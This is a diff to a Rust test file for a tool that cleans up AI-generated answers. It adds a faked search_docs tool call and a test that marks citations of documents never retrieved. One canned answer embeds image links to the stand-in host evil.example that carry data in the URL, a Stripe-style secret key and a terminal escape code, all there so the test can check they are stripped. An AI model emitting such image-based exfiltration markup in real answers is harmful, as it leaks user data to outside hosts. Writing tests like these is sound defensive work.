@@ -128,7 +128,10 @@ fn request_carries_max_tokens_and_a_stable_system_prompt_with_only_the_catalog()
 fn answers_lose_outside_links_images_secrets_and_escapes() {
     let answer = "See ![chart](https://evil.example/c.png?d=refunds) and [the docs](docs/refunds.md#window). \
                   <img src=\"https://evil.example/x\"> key sk_live_4eC39HqLyjWDarjtT1zdp7dc \u{1b}[2Jdone";
-    let server = FakeServer::start(vec![Canned::text(answer)]);
+    let server = FakeServer::start(vec![
+        Canned::tool("search_docs", json!({"query": "refund window"})),
+        Canned::text(answer),
+    ]);
     let ws = sample_workspace();
     let base = server.base_url();
     let out = run(ws.path(), &env(&base), &["q"]);
@@ -163,6 +166,29 @@ fn allowed_link_hosts_keep_their_links() {
     assert_eq!(out.code, 0, "stderr: {}", out.stderr);
     assert!(
         out.stdout.contains("https://docs.acme.example/logo.png"),
+        "{}",
+        out.stdout
+    );
+}
+
+#[test]
+fn citations_of_pages_never_retrieved_are_marked() {
+    let server = FakeServer::start(vec![
+        Canned::tool("search_docs", json!({"query": "refund window"})),
+        Canned::text("Per docs/refunds.md#window it is 14 days; docs/secret-roadmap.md says more."),
+    ]);
+    let ws = sample_workspace();
+    let base = server.base_url();
+    let out = run(ws.path(), &env(&base), &["q"]);
+    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
+    assert!(
+        out.stdout.contains("docs/refunds.md#window it is"),
+        "{}",
+        out.stdout
+    );
+    assert!(
+        out.stdout
+            .contains("docs/secret-roadmap.md [unverified citation]"),
         "{}",
         out.stdout
     );
